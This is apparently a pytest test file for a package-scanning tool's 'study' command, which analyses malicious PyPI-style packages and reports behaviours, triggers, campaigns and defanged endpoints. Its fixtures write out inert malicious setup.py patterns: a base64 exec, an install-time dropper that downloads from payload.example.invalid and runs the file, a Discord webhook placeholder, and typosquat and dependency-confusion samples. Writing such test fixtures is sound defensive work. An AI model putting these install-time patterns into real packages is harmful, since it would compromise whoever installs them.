"""Tests for ``pkgvet study``: per-package facts, aggregation and the written report, on a small
inert dataset tree (payloads decode to ``print(1)``, hosts are on example.invalid)."""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from conftest import sdist
from pkgvet.cli import cli
from pkgvet.study.aggregate import aggregate, campaign_ids, comparison
from pkgvet.study.attrs import defang, endpoints
from pkgvet.study.dataset import load_samples, subsample
from pkgvet.study.facts import (
    capability_behaviours,
    location_of,
    package_facts,
    trigger_and_location,
)

EXEC_SETUP = """import base64

from setuptools import setup

exec(base64.b64decode("cHJpbnQoMSk="))

setup(name="zzcampaign", version="1.0", packages=["mypkg"])
"""
DROPPER_SETUP = """import os
import subprocess
import tempfile
import urllib.request

from setuptools import setup

tool = os.path.join(tempfile.gettempdir(), "helper")
urllib.request.urlretrieve("https://payload.example.invalid/helper", tool)
os.chmod(tool, 0o755)
subprocess.Popen([tool])

setup(name="zzdrop", version="1.0", packages=["mypkg"])
"""
WEBHOOK_INIT = (
    'WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/EXAMPLE-not-a-token"\n'
)
COMPUTED_IMPORT = '_m = __import__("o" + "s")\n'
PLAIN_SETUP = 'from setuptools import setup\n\nsetup(name="zzplain", version="1.0")\n'

# name, version, date, files
PACKAGES: list[tuple[str, str, str, dict[str, str]]] = [
    ("zzexec", "1.0", "2023-08-10", {"setup.py": EXEC_SETUP, "mypkg/__init__.py": ""}),
    ("zzexectwo", "1.0", "2023-08-11", {"setup.py": EXEC_SETUP, "mypkg/__init__.py": ""}),
    ("zzhook", "2.0", "2023-09-05", {"zzhook/__init__.py": WEBHOOK_INIT}),
    ("zzdrop", "1.0", "2023-09-20", {"setup.py": DROPPER_SETUP, "mypkg/__init__.py": ""}),
    (
        "reqests",
        "1.0",
        "2023-10-01",
        {"reqests/__init__.py": "", "reqests/util.py": COMPUTED_IMPORT},
    ),
    ("zzdepconf", "99.0.0", "2023-10-02", {"zzdepconf/__init__.py": "VALUE = 1\n"}),
    ("zzplain", "1.0", "2023-10-03", {"setup.py": PLAIN_SETUP}),
]


def make_dataset(root: Path) -> Path:
    """The inert dataset: ``name/version/name-version.tar.gz`` and a MANIFEST.tsv."""
    rows = ["path\tsha256\tbytes\tadded"]
    for name, version, date, files in PACKAGES:
        rel = f"{name}/{version}/{name}-{version}.tar.gz"
        data = sdist(name, version, dict(files))
        (root / name / version).mkdir(parents=True)
        (root / rel).write_bytes(data)
        rows.append(f"{rel}\t{'0' * 64}\t{len(data)}\t{date}")
    (root / "MANIFEST.tsv").write_text("\n".join(rows) + "\n", "utf-8")
    return root


@pytest.fixture(scope="module")
def study_out(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    base = tmp_path_factory.mktemp("study")
    ds = make_dataset(base / "ds")
    out = base / "out"
    res = CliRunner().invoke(
        cli,
        ["study", str(ds), "--out", str(out), "--jobs", "1", "--no-progress", "--save-records"],
    )
    assert res.exit_code == 0, res.output
    return ds, out


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def by(rows: list[dict[str, str]], key: str) -> dict[str, dict[str, str]]:
    return {r[key]: r for r in rows}


def test_study_writes_every_output(study_out: tuple[Path, Path]) -> None:
    _ds, out = study_out
    for name in (
        "index.html",
        "summary.json",
        "behaviours.csv",
        "triggers.csv",
        "locations.csv",
        "anti_detection.csv",
        "attack_vectors.csv",
        "code_attributes.csv",
        "endpoints.csv",
        "campaigns.csv",
        "timeline.csv",
        "comparison.csv",
        "packages.csv",
        "records.jsonl",
        "behaviours.png",
        "timeline.png",
    ):
        assert (out / name).is_file(), name
    page = (out / "index.html").read_text("utf-8")
    assert page.count("data:image/png;base64,") == 8
    assert "<script" not in page and "href=" not in page
    assert "discord[.]com" in page and "discord.com/api" not in page  # defanged only


def test_study_behaviour_and_trigger_numbers(study_out: tuple[Path, Path]) -> None:
    _ds, out = study_out
    summary = json.loads((out / "summary.json").read_text("utf-8"))
    assert summary["packages"] == 7 and summary["analysed"] == 7 and summary["errors"] == 0
    assert summary["date_range"] == ["2023-08-10", "2023-10-03"]
    pk = by(read_csv(out / "packages.csv"), "name")
    # each fixture's behaviour, trigger and location
    assert "code_execution" in pk["zzexec"]["behaviours"].split()
    assert (pk["zzexec"]["trigger"], pk["zzexec"]["location"]) == ("install", "setup.py")
    assert "information_stealing" in pk["zzhook"]["behaviours"].split()
    assert (pk["zzhook"]["trigger"], pk["zzhook"]["location"]) == ("import", "__init__.py")
    assert {"code_execution", "command_execution"} <= set(pk["zzdrop"]["behaviours"].split())
    assert pk["zzdrop"]["trigger"] == "install"
    assert pk["zzplain"]["behaviours"] == "" and pk["zzplain"]["trigger"] == ""
    assert pk["zzdepconf"]["behaviours"] == ""
    beh = by(read_csv(out / "behaviours.csv"), "behaviour")
    for b, row in beh.items():
        expected = sum(1 for p in pk.values() if b in p["behaviours"].split())
        assert int(row["packages"]) == expected
        assert float(row["pct_of_analysed"]) == round(100 * expected / 7, 2)
    assert float(beh["command_execution"]["paper_pct"]) == 59.33
    tr = by(read_csv(out / "triggers.csv"), "trigger")
    located = [p for p in pk.values() if p["trigger"]]
    for t, row in tr.items():
        n = sum(1 for p in located if p["trigger"] == t)
        assert int(row["packages"]) == n
        assert float(row["pct_of_located"]) == round(100 * n / len(located), 2)
    assert int(tr["import"]["packages"]) >= 1 and int(tr["install"]["packages"]) >= 3
    multi = sum(1 for p in pk.values() if len(p["behaviours"].split()) >= 2)
    assert summary["multi_behaviour"] == multi


def test_study_techniques_vectors_attributes(study_out: tuple[Path, Path]) -> None:
    _ds, out = study_out
    pk = by(read_csv(out / "packages.csv"), "name")
    tech = by(read_csv(out / "anti_detection.csv"), "technique")
    assert "code_obfuscation" in pk["zzexec"]["techniques"].split()
    assert "external_payload" in pk["zzdrop"]["techniques"].split()
    assert "indirect_import" in pk["reqests"]["techniques"].split()
    assert int(tech["code_obfuscation"]["packages"]) == 2
    assert int(tech["external_payload"]["packages"]) == 1
    assert tech["sandbox_escape"]["measured"] == "False"
    assert tech["sandbox_escape"]["packages"] == ""
    assert tech["behaviour_overlap"]["signal"] == "not measured"
    vec = by(read_csv(out / "attack_vectors.csv"), "vector")
    assert int(vec["typosquatting"]["packages"]) == 1
    assert int(vec["dependency_confusion"]["packages"]) == 1
    assert read_csv(out / "typosquat_targets.csv")[0]["target"] == "requests"
    assert read_csv(out / "dependency_confusion_versions.csv")[0]["version"] == "99.0.0"
    # code attributes: every fixture has its PKG-INFO plus its files; depth below the root
    assert int(pk["zzexec"]["files"]) == 3 and int(pk["zzexec"]["depth"]) == 1
    assert int(pk["zzplain"]["files"]) == 2 and int(pk["zzplain"]["depth"]) == 0
    # setup.py of zzexec: 4 non-blank lines (+ the 1-line decoded payload); the exec line and
    # the payload line are malicious
    assert int(pk["zzexec"]["loc"]) == 4
    assert int(pk["zzexec"]["malicious_lines"]) == 2
    assert float(pk["zzexec"]["density"]) == pytest.approx(2 / 5, abs=1e-5)
    assert pk["zzplain"]["malicious_lines"] == "0"
    attrs = by(read_csv(out / "code_attributes.csv"), "attribute")
    assert int(attrs["loc"]["n"]) == 7


def test_study_endpoints_and_campaigns(study_out: tuple[Path, Path]) -> None:
    _ds, out = study_out
    eps = by(read_csv(out / "endpoints.csv"), "endpoint")
    assert "payload[.]example[.]invalid" in eps
    assert eps["payload[.]example[.]invalid"]["kind"] == "domain"
    hook = "hxxps://discord[.]com/api/webhooks/000000000000000000"
    assert eps[hook]["kind"] == "webhook" and eps[hook]["example_names"] == "zzhook"
    assert all("EXAMPLE-not-a-token".lower() not in e.lower() for e in eps)  # never the token
    camps = read_csv(out / "campaigns.csv")
    assert len(camps) == 1
    assert camps[0]["packages"] == "2" and camps[0]["example_names"] == "zzexec, zzexectwo"
    assert (camps[0]["first_date"], camps[0]["last_date"]) == ("2023-08-10", "2023-08-11")
    tl = by(read_csv(out / "timeline.csv"), "month")
    assert list(tl) == ["2023-08", "2023-09", "2023-10"]
    assert [int(tl[m]["packages"]) for m in tl] == [2, 2, 3]
    assert int(tl["2023-08"]["new_campaigns"]) == 1 and int(tl["2023-09"]["new_campaigns"]) == 0


def test_study_from_jsonl_results_matches_scan(
    study_out: tuple[Path, Path], tmp_path: Path
) -> None:
    ds, out = study_out
    results = tmp_path / "results.jsonl"
    runner = CliRunner()
    res = runner.invoke(cli, ["scan", str(ds), "-f", "jsonl", "-o", str(results), "--no-known"])
    assert res.exit_code in (0, 1), res.output
    out2 = tmp_path / "out2"
    res = runner.invoke(
        cli,
        [
            "study",
            str(ds),
            "--results",
            str(results),
            "--out",
            str(out2),
            "-j",
            "1",
            "--no-progress",
        ],
    )
    assert res.exit_code == 0, res.output
    a = by(read_csv(out / "packages.csv"), "name")
    b = by(read_csv(out2 / "packages.csv"), "name")
    assert set(a) == set(b)
    for name in a:
        for key in ("behaviours", "trigger", "location", "techniques", "date", "loc", "density"):
            assert a[name][key] == b[name][key], (name, key)
    # and the saved records feed it again without reading any package
    out3 = tmp_path / "out3"
    res = runner.invoke(
        cli, ["study", str(out / "records.jsonl"), "--out", str(out3), "--no-progress"]
    )
    assert res.exit_code == 0, res.output
    assert read_csv(out3 / "behaviours.csv") == read_csv(out / "behaviours.csv")


def test_study_from_a_results_database(study_out: tuple[Path, Path], tmp_path: Path) -> None:
    pytest.importorskip("sqlalchemy")
    from pkgvet.pipeline import scan_path
    from pkgvet.store import ResultStore

    ds, out = study_out
    db = tmp_path / "results.db"
    with ResultStore(str(db)) as store:
        for r in scan_path(ds):
            r.target = str(Path(r.target).relative_to(ds))  # as `pkgvet batch` labels rows
            store.add(r)
    out2 = tmp_path / "fromdb"
    res = CliRunner().invoke(
        cli, ["study", str(ds), "--results", str(db), "--out", str(out2), "-j", "1"]
    )
    assert res.exit_code == 0, res.output
    a = by(read_csv(out / "packages.csv"), "name")
    b = by(read_csv(out2 / "packages.csv"), "name")
    assert {k: (v["behaviours"], v["date"], v["loc"]) for k, v in a.items()} == {
        k: (v["behaviours"], v["date"], v["loc"]) for k, v in b.items()
    }
    out3 = tmp_path / "dbonly"  # the database alone: no dates, attributes from findings only
    res = CliRunner().invoke(cli, ["study", str(db), "--out", str(out3)])
    assert res.exit_code == 0, res.output
    c = by(read_csv(out3 / "packages.csv"), "id")
    assert len(c) == 7 and all(v["date"] == "" for v in c.values())


def test_study_limit_and_manifest_input(tmp_path: Path) -> None:
    ds = make_dataset(tmp_path / "ds")
    samples = load_samples(ds / "MANIFEST.tsv")
    assert [s.name for s in samples][:2] == ["reqests", "zzdepconf"]
    assert {s.date for s in samples} >= {"2023-08-10"}
    picked = subsample(load_samples(ds), 3, seed=1)
    assert len(picked) == 3 and picked == subsample(load_samples(ds), 3, seed=1)


def test_dates_cohorts_and_placeholders(study_out: tuple[Path, Path], tmp_path: Path) -> None:
    _ds, out = study_out
    summary = json.loads((out / "summary.json").read_text("utf-8"))
    co = summary["cohorts"]
    assert (co["first_month"], co["first_month_packages"], co["later_packages"]) == (
        "2023-08",
        2,
        5,
    )
    assert co["first_month_pct"]["code_obfuscation"] == 100.0
    assert co["later_pct"]["code_obfuscation"] == 0.0
    cmp = by(read_csv(out / "comparison.csv"), "metric")
    assert cmp["Code obfuscation"]["first_month_pct"] == "100.0"
    assert "first month (2023-08, 2 packages)" in cmp["Code obfuscation"]["why"]
    # each campaign once: zzexec and zzexectwo are one unit of the 6
    assert summary["one_per_campaign"]["units"] == 6
    assert summary["one_per_campaign"]["pct"]["code_obfuscation"] == round(100 / 6, 2)
    assert cmp["Code obfuscation"]["one_per_campaign_pct"] == str(round(100 / 6, 2))
    ds = tmp_path / "ds"
    (ds / "zz" / "1.0").mkdir(parents=True)
    (ds / "zz" / "1.0" / "zz-1.0.tar.gz").write_bytes(sdist("zz", "1.0", {"setup.py": "x = 1\n"}))
    (ds / "MANIFEST.tsv").write_text("path\tadded\nzz/1.0/zz-1.0.tar.gz\t0000-00-00\n", "utf-8")
    assert [s.date for s in load_samples(ds)] == [None]


def test_study_needs_matplotlib(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ds = make_dataset(tmp_path / "ds")
    monkeypatch.setitem(sys.modules, "matplotlib", None)
    res = CliRunner().invoke(cli, ["study", str(ds), "--out", str(tmp_path / "o")])
    assert res.exit_code == 2
    assert "matplotlib" in res.output and "pkgvet[study]" in res.output


# -- pure functions ----------------------------------------------------------------------------


def finding(**kw: Any) -> dict[str, Any]:
    base = {
        "rule_id": "PV101",
        "severity": "medium",
        "category": "command_execution",
        "trigger": "runtime",
        "path": "pkg-1.0/pkg/run.py",
        "line": 3,
        "snippet": "",
        "evidence": "",
    }
    return {**base, **kw}


def test_trigger_and_location_take_the_highest_then_earliest() -> None:
    fs = [
        finding(severity="medium", trigger="install", path="p-1/setup.py"),
        finding(severity="high", trigger="runtime", path="p-1/p/x.py"),
        finding(severity="high", trigger="import", path="p-1/p/__init__.py"),
        finding(severity="critical", trigger="none", path="", category="metadata"),
    ]
    assert trigger_and_location(fs) == ("import", "__init__.py")
    assert trigger_and_location([finding(severity="low")]) == (None, None)
    assert location_of("a.whl!inner/setup.py") == "setup.py"


def test_package_facts_from_a_bare_result_dict() -> None:
    result = {
        "target": "x/1.0/x.tar.gz",
        "verdict": "malicious",
        "error": None,
        "package": {"name": "colourama", "version": "1.0"},
        "findings": [
            finding(rule_id="PV201", category="code_execution", severity="high"),
            finding(rule_id="PV605", category="obfuscation", severity="high"),
            finding(rule_id="PV803", category="metadata", severity="high", line=0),
            finding(rule_id="PV602", category="obfuscation", severity="low"),
            finding(
                rule_id="PV403",
                category="remote_control",
                severity="high",
                evidence="connects to 203.0.113.9 and 8.8.8.8",
            ),
        ],
    }
    f = package_facts(result)
    assert f.behaviours == {"code_execution", "remote_control"}
    assert f.techniques == {"code_obfuscation", "indirect_import"}
    assert f.dependency_confusion and f.typosquat_target == "colorama"
    assert f.loc is None and f.cap_behaviours is None
    assert f.endpoints == (("ip", "8.8.8.8"),)  # 203.0.113.0/24 is documentation, not global


def test_endpoints_and_defang() -> None:
    texts = [
        "see https://github.com/someone/project and https://pypi.org/project/x",
        "https://raw.githubusercontent.com/a/b/main/x.py",
        "https://github.com/a/b/releases/download/v1/x.exe",
        "http://203.0.113.5/x, http://8.8.4.4:8080/y, 1.1.1.1:53, version 1.2.3.4",
        "https://api.telegram.org/bot123456:SECRET/sendMessage",
    ]
    got = endpoints(texts)
    assert ("domain", "github.com") in got  # a release download is a payload
    assert ("domain", "raw.githubusercontent.com") in got
    assert ("domain", "pypi.org") not in got
    assert ("ip", "8.8.4.4") in got and ("ip", "1.1.1.1") in got
    assert ("ip", "1.2.3.4") not in got and ("ip", "203.0.113.5") not in got
    assert ("webhook", "api.telegram.org/bot123456") in got
    assert ("domain", "api.telegram.org") not in got
    assert defang("domain", "evil.example.invalid") == "evil[.]example[.]invalid"
    assert defang("webhook", "discord.com/api/webhooks/1") == "hxxps://discord[.]com/api/webhooks/1"


def test_read_results_keeps_unicode_line_separators(tmp_path: Path) -> None:
    from pkgvet.study.dataset import read_results

    row = {"target": "a", "findings": [], "evidence": "x\u2028y\x0cz"}
    path = tmp_path / "r.jsonl"
    path.write_text(json.dumps(row, ensure_ascii=False) + "\n\n", "utf-8")
    assert read_results(path) == [row]


def test_capability_view() -> None:
    caps = frozenset({"process", "env", "network", "file_write", "exec"})
    assert capability_behaviours(caps) == {
        "command_execution",
        "information_stealing",
        "file_operation",
        "code_execution",
    }
    assert capability_behaviours(frozenset({"env"})) == frozenset()
    assert "remote_control" in capability_behaviours(frozenset({"socket", "process"}))


def test_aggregate_handles_no_packages_and_errors() -> None:
    err = package_facts({"id": "a", "result": {"error": "corrupt", "verdict": "error"}})
    study = aggregate([err], campaign_ids([err]), dataset="x")
    assert study.summary["analysed"] == 0 and study.summary["errors"] == 1
    assert study.tables["behaviours"][0]["pct_of_analysed"] is None
    rows = comparison(study.summary)
    assert {r["metric"] for r in rows} >= {"Command execution", "Trigger: Install time"}


@pytest.mark.shared
def test_study_on_a_sample_of_the_shared_dataset(malregistry_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    res = CliRunner().invoke(
        cli,
        [
            "study",
            str(malregistry_dir),
            "--limit",
            "40",
            "--seed",
            "3",
            "--out",
            str(out),
            "-j",
            "2",
            "--no-progress",
        ],
    )
    assert res.exit_code == 0, res.output
    summary = json.loads((out / "summary.json").read_text("utf-8"))
    assert summary["packages"] == 40
    assert summary["analysed"] >= 38
    assert summary["with_behaviour_pct"] >= 50  # every sample is malicious
    assert summary["date_range"][0] >= "2023-08"
    rows = read_csv(out / "packages.csv")
    assert all(r["date"] for r in rows)
    assert (out / "index.html").stat().st_size > 50_000
